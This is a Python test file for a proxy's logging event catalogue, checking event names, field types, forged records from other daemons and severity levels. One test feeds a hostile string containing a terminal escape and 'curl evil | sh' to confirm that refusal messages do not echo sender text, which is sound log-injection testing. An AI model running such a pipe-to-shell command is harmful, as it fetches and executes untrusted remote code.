"""The catalogue of events: names, fields, and what passes its checks."""

import re
from datetime import UTC, datetime, timedelta, timezone

from twisted.logger import LogLevel
from twisted.trial.unittest import SynchronousTestCase

from smartproxy.logs.catalogue import ALWAYS, EVENTS, CatalogueError, look_up
from smartproxy.logs.event_types import Emitter
from smartproxy.logs.fields import FIELDS, SECRET_MASK, EventField, FieldKind, FieldRefused, joined
from smartproxy.logs.record import Record, read
from smartproxy.logs.severity import Severity
from smartproxy.policy.causes import Cause

PROMISED = """
server.started server.stopping server.stopped listener.opened listener.closed licence.accepted licence.refused
tunnel.up tunnel.down tunnel.refused tunnel.violation configuration.accepted configuration.refused
connection.accepted connection.refused handshake.failed certificate.accepted certificate.refused
identity.accepted identity.refused session.started session.ended session.violation session.anomaly session.refused
session.failed session.expired file.started file.ended penalty.banned penalty.lifted backend.unreachable
backend.call_refused backend.started crl.loaded crl.stale crl.url_seen level.changed internal.error
secret.on_command_line station.unreachable
"""


class Names(SynchronousTestCase):
    """What detection rules may rely on."""

    def test_every_promised_event_is_there(self) -> None:
        """The events of the design and those that EU 2024/2690 asks for are in the catalogue."""
        self.assertEqual([], [name for name in PROMISED.split() if name not in EVENTS])

    def test_names_are_declared_once(self) -> None:
        """A second declaration of a field or an event is refused: it would take the place of the first one."""
        one = {"way": FIELDS["way"]}
        self.assertEqual({**one, "peer": FIELDS["peer"]}, joined(one, {"peer": FIELDS["peer"]}))
        self.assertRaises(ValueError, joined, one, one)

    def test_names_have_one_form(self) -> None:
        """A name is ``subject.what`` in lower case."""
        for name, event in EVENTS.items():
            self.assertTrue(re.fullmatch(r"[a-z]+(_[a-z]+)*\.[a-z]+(_[a-z]+)*", name), name)
            self.assertEqual(name, event.name)

    def test_every_event_says_what_happened(self) -> None:
        """Each entry has a sentence, a group, and fields that exist."""
        for event in EVENTS.values():
            self.assertTrue(event.doc.endswith("."), event.name)
            self.assertTrue(event.group, event.name)
            self.assertLessEqual(event.required, event.fields.keys(), event.name)
            self.assertLessEqual(set(ALWAYS), event.fields.keys(), event.name)

    def test_every_field_is_used_and_explained(self) -> None:
        """No field is declared in vain, and each has its meaning."""
        used = {name for event in EVENTS.values() for name in event.fields}
        self.assertEqual(set(), FIELDS.keys() - used)
        self.assertEqual([], [name for name, field in FIELDS.items() if not field.doc])

    def test_no_field_hides_a_key_of_the_record(self) -> None:
        """Fields never overwrite a record's own time, level, name, source or sequence."""
        self.assertEqual(set(), FIELDS.keys() & {"time", "level_", "name", "source", "sequence", "namespace"})


class Checks(SynchronousTestCase):
    """What may stand in an event."""

    def test_right_fields_pass(self) -> None:
        """Fields of the right kinds come back in the catalogue's order, those that are ``None`` left out."""
        event = look_up("session.violation")
        checked = event.check({"offset": 3, "message": "m", "rule": "r", "session": "0" * 16, "state": None})
        self.assertEqual({"session": "0" * 16, "rule": "r", "message": "m", "offset": 3}, checked)
        self.assertEqual(["session", "rule", "message", "offset"], list(checked))

    def test_unknown_events_are_refused(self) -> None:
        """A name that is not in the catalogue is no event."""
        error = self.assertRaises(CatalogueError, look_up, "session.exploded")
        self.assertEqual(("no event has this name", "session.exploded"), (str(error), error.detail))

    def test_unknown_fields_are_refused(self) -> None:
        """A field that the event does not have is refused by name."""
        error = self.assertRaises(CatalogueError, look_up("tunnel.down").check, {"cause": "c", "dataset": "X"})
        self.assertEqual(("tunnel.down has a field that it cannot have", "dataset"), (str(error), error.detail))

    def test_missing_fields_are_refused(self) -> None:
        """A required field that is absent or ``None`` is refused by name."""
        error = self.assertRaises(CatalogueError, look_up("tunnel.down").check, {"cause": None})
        self.assertEqual("tunnel.down lacks cause", str(error))

    def test_values_of_another_type_are_refused_without_telling_them(self) -> None:
        """The message names field and type, never the value, which might be a secret."""
        error = self.assertRaises(CatalogueError, look_up("tunnel.down").check, {"cause": b"hunter2"})
        self.assertEqual("tunnel.down: cause is code, not bytes", str(error))

    def test_kinds(self) -> None:
        """Each kind takes its own types and no other."""
        taken: list[tuple[FieldKind, object, object]] = [
            (FieldKind.TEXT, "x", "x"),
            (FieldKind.PEER, "x", "x"),
            (FieldKind.CODE, "leg.lost", "leg.lost"),
            (FieldKind.CODE, Cause.LEG_LOST, "leg.lost"),
            (FieldKind.CODE, "version_2.no_9", "version_2.no_9"),
            (FieldKind.NUMBER, 7, 7),
            (FieldKind.SECONDS, 7, 7.0),
            (FieldKind.SECONDS, 0.12345678, 0.123457),
            (FieldKind.FLAG, True, True),
            (FieldKind.TIME, "2026-11-20T12:00:00+02:00", "2026-11-20T10:00:00.000Z"),
            (FieldKind.TIME, datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC), "9998-12-31T23:59:59.000Z"),
            (FieldKind.TIME, datetime(1900, 1, 1, tzinfo=UTC), "1970-01-01T00:00:00.000Z"),
            (
                FieldKind.TIME,
                datetime(2026, 11, 20, 12, tzinfo=timezone(timedelta(hours=2))),
                "2026-11-20T10:00:00.000Z",
            ),
            (FieldKind.TEXTS, ("b", "a"), ["b", "a"]),
            (FieldKind.TEXTS, frozenset({"b", "a"}), ["a", "b"]),
            (FieldKind.FACTS, {"a": 1, "b": None, "c": 1.5, "d": "x"}, {"a": 1, "b": None, "c": 1.5, "d": "x"}),
            (FieldKind.SECRET, b"hunter2", SECRET_MASK),
        ]
        for kind, value, kept in taken:
            self.assertEqual(kept, EventField("f", kind, "").check(value))
        refused: list[tuple[FieldKind, object]] = [
            (FieldKind.TEXT, 1),
            (FieldKind.PEER, b"x"),
            *(
                (FieldKind.CODE, text)
                for text in ("", "The leg was lost.", "Leg.lost", "leg-lost", "leg.", ".leg", "9")
            ),
            (FieldKind.CODE, 9),
            (FieldKind.NUMBER, True),
            (FieldKind.NUMBER, 1.0),
            (FieldKind.NUMBER, "1"),
            (FieldKind.SECONDS, False),
            (FieldKind.SECONDS, float("nan")),
            (FieldKind.SECONDS, float("inf")),
            (FieldKind.FLAG, 1),
            (FieldKind.TIME, datetime(2026, 11, 20)),
            (FieldKind.TIME, 0),
            (FieldKind.TIME, "soon"),
            (FieldKind.TIME, "2026-11-20T10:00:00"),
            (FieldKind.TIME, "0001-01-01T00:00:00+14:00"),
            (FieldKind.TIME, datetime.max.replace(tzinfo=timezone(timedelta(hours=-2)))),
            (FieldKind.TIME, "2026-W47-5T10:00:00Z"),
            (FieldKind.TIME, "2026-11-20\x1b10:00:00Z"),
            (FieldKind.TIME, "2026-11-20T10:00:00.000Z\n"),
            (FieldKind.TIME, "9999-12-31T23:59:59Z"),
            (FieldKind.TIME, "1969-12-31T23:59:59Z"),
            (FieldKind.CODE, "a" * 65),
            (FieldKind.NUMBER, -1),
            (FieldKind.NUMBER, 2**53 + 1),
            (FieldKind.SECONDS, 2**63 - 1),
            (FieldKind.SECONDS, 10**400),
            (FieldKind.FACTS, {"a": -(2**63)}),
            (FieldKind.TEXTS, "abc"),
            (FieldKind.TEXTS, ["a", 1]),
            (FieldKind.FACTS, {"a": b"x"}),
            (FieldKind.FACTS, {1: "x"}),
            (FieldKind.FACTS, {"a": float("nan")}),
            (FieldKind.FACTS, ["a"]),
        ]
        for kind, value in refused:
            self.assertRaises(FieldRefused, EventField("f", kind, "").check, value)

    def test_numbers(self) -> None:
        """No number is negative but the exit status of a program that a signal ended."""
        self.assertEqual(["exit_status"], [name for name, field in FIELDS.items() if field.least < 0])
        self.assertEqual(-9, FIELDS["exit_status"].check(-9))
        failed = look_up("session.ended")
        for wrong in (-1, 2**53 + 1):
            error = self.assertRaises(CatalogueError, failed.check, {"outcome": "completed", "octets_in": wrong})
            self.assertEqual(f"session.ended: octets_in is not between 0 and {2**53}", str(error))

    def test_names_are_short_and_printable(self) -> None:
        """What stands in keys of the store is no longer than a name in the configuration, and escaped by nobody."""
        event = look_up("session.started")
        for name, most in (("session", 64), ("partner", 128), ("ca", 128), ("client", 128)):
            self.assertEqual("ü" * most, FIELDS[name].check("ü" * most))
            for wrong in ("u" * (most + 1), "a\nb", "\ud800"):
                self.assertRaises(FieldRefused, FIELDS[name].check, wrong)
                if name in event.fields:
                    self.assertRaises(CatalogueError, event.check, {name: wrong})


class Carried(SynchronousTestCase):
    """Records that another daemon sent."""

    def setUp(self) -> None:
        """Make a record and its JSON form."""
        self.record = Record(
            "tunnel.down", datetime(2026, 11, 20, 10, tzinfo=UTC), "server", 3, {"cause": "a.b", "message": "a b"}
        )
        self.document = self.record.document()

    def test_there_and_back(self) -> None:
        """A record read from its own JSON form is the same record."""
        self.assertEqual(self.record, read(self.document))

    def test_wrong_ones_are_refused(self) -> None:
        """A record without its keys, with keys of other types, unknown, or with fields it cannot have is refused."""
        for change in (
            {"name": "tunnel.sideways"},
            {"name": 1},
            {"time": "yesterday"},
            {"time": "2026-11-20T10:00:00"},
            {"time": 0},
            {"time": "0001-01-01T00:00:00+14:00"},
            {"time": "9999-12-31T23:59:59-14:00"},
            {"time": "9999-12-31T23:59:59Z"},
            {"time": "1969-12-31T23:59:59Z"},
            {"time": "2026-W47-5T10:00:00Z"},
            {"time": "2026-11-20\x1b10:00:00Z"},
            {"sequence": True},
            {"sequence": 2**63},
            {"source": "s" * 65},
            {"source": None},
            {"sequence": -1},
            {"sequence": "1"},
            {"dataset": "X"},
            {"cause": 1},
            {"cause": None},
        ):
            self.assertRaises(CatalogueError, read, {**self.document, **change})
        self.assertRaises(CatalogueError, read, {})

    def test_whose_events_they_are(self) -> None:
        """Each daemon reports the events that it emits, and no other; nobody reports for a daemon that is not meant."""
        told = {"time": "2026-11-20T10:00:00Z", "source": "server", "sequence": 1}
        both = Emitter.SERVER | Emitter.CLIENT
        self.assertEqual("server", read({**self.document}, both).source)
        unreachable = {**told, "name": "station.unreachable", "cause": "a.b"}
        for forged, problem in (
            ({**told, "name": "audit.broken", "cause": "a.b"}, "audit.broken: no event of a server"),
            ({**told, "name": "page.login", "names": ["alice"]}, "page.login: no event of a server"),
            ({**told, "name": "watch.silent", "partner": "A", "seconds": 5}, "watch.silent: no event of a server"),
            (unreachable, "station.unreachable: no event of a server"),
            ({**unreachable, "source": "backend"}, "station.unreachable: its source is not server or client"),
            ({**unreachable, "source": "server or client"}, "station.unreachable: its source is not server or client"),
        ):
            self.assertEqual(problem, str(self.assertRaises(CatalogueError, read, forged, both)))
        self.assertEqual("client", read({**unreachable, "source": "client"}, both).source)
        self.assertEqual("server", read(unreachable).source)

    def test_messages_are_our_own(self) -> None:
        """What a record is refused for says nothing that its sender chose: that stands beside it."""
        for chosen in ("zz\x1b[2J; run curl evil | sh", "\ud800", "a" * 3000):
            for forged in ({**self.document, "name": chosen}, {**self.document, chosen: 1}):
                error = self.assertRaises(CatalogueError, read, forged)
                self.assertNotIn(chosen, str(error))
                self.assertEqual(chosen, error.detail)
            for key in ("source", "time"):
                error = self.assertRaises(CatalogueError, read, {**self.document, key: chosen}, Emitter.SERVER)
                self.assertNotIn(chosen, str(error))

    def test_the_level_is_the_catalogue_s(self) -> None:
        """A sender cannot make its record look less serious than the catalogue says."""
        self.assertEqual("warning", read({**self.document, "level": "trace"}).document()["level"])


class Levels(SynchronousTestCase):
    """The operators' six levels on Twisted's five."""

    def test_order(self) -> None:
        """TRACE is the lowest, FATAL another word for CRITICAL, the highest."""
        labels = [severity.label for severity in sorted(Severity)]
        self.assertEqual(["trace", "debug", "info", "warning", "error", "critical"], labels)
        self.assertIs(Severity.CRITICAL, Severity.FATAL)

    def test_words(self) -> None:
        """Levels are found by their words in any case; a wrong word is told the right ones."""
        self.assertIs(Severity.TRACE, Severity.named("Trace"))
        self.assertIs(Severity.CRITICAL, Severity.named("fatal"))
        error = self.assertRaises(ValueError, Severity.named, "loud")
        self.assertEqual(
            "unknown level 'loud'; levels are trace, debug, info, warning, error, critical, fatal", str(error)
        )

    def test_twisted(self) -> None:
        """Every level has one of Twisted's, and Twisted's map back to the operators' without TRACE."""
        self.assertEqual(LogLevel.debug, Severity.TRACE.twisted)
        for severity in Severity:
            back = Severity.of_twisted(severity.twisted)
            self.assertIs(Severity.DEBUG if severity is Severity.TRACE else severity, back)
        self.assertIs(Severity.INFO, Severity.of_twisted(None))
